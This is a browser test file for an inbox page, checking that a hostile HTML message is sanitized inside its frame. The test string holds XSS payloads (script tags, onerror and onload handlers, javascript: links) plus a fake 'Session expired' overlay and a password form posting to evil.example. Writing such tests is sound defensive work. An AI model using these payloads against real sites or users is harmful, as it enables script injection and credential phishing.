import { expect, test } from 'vitest';
import { describeBrowser } from '../inbox/browser.ts';
import { content, lena } from '../inbox/inbox-service.ts';

describeBrowser('the inbox page', (fixture) => {
  test('a hostile message runs nothing, loads nothing and stays in its frame', async () => {
    const { store, threadId, mara } = fixture.service;
    const html = `
      <p>Hello</p><script>parent.hacked = 1</script><img src="https://evil.example/p.gif" onerror="parent.hacked = 1">
      <img src=x onerror="parent.hacked = 1"><svg onload="parent.hacked = 1"></svg><iframe src="https://evil.example/"></iframe>
      <link rel="stylesheet" href="https://evil.example/s.css"><style>@import "https://evil.example/i.css"; body { color: red }</style>
      <div style="position:fixed;inset:0;background:url(https://evil.example/b.png)">Session expired</div>
      <form action="https://evil.example/"><input name="password"><button>Sign in</button></form>
      <a href="javascript:parent.hacked = 1">click</a> <a href="https://shop.example/">shop</a>
      <base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
      <table background="https://evil.example/t.png"><tr><td>cell</td></tr></table><video src="https://evil.example/v.mp4" autoplay></video>`;
    await store.receiveMessage({ threadId, author: lena, ...content('<img src=x onerror=alert(1)>', html) });
    await store.receiveMessage({ threadId, author: lena, ...content('<script>alert(1)</script> as plain text') });
    const page = await fixture.signIn(mara);
    await page.getByRole('link', { name: 'Brakes squeal' }).click();
    await page.locator('.message').getByText('<script>alert(1)</script> as plain text').waitFor();
    await page.locator('summary', { hasText: '<img src=x' }).click();
    const frame = page.frameLocator('.message-frame');
    await frame.getByText('Session expired').waitFor();
    expect(
      await frame.locator('script, img, svg, iframe, link, base, meta, form, input, button, video, [style]').count(),
    ).toBe(0);
    expect(await frame.getByText('click').getAttribute('href')).toBeNull();
    expect(await frame.getByText('shop').getAttribute('rel')).toBe('noopener noreferrer');
    expect(await frame.locator('style').count()).toBe(1);
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    // The page itself is unchanged.
    expect(new URL(page.url()).pathname).toBe(`/threads/${threadId}`);
    // Chromium reports violations in the sanitizer's inert document, although nothing ran or was loaded.
    fixture.expectProblem('Content Security Policy');
    expect(page.frames().map((each) => each.url())).toEqual([page.url(), 'about:blank']);
  });
});
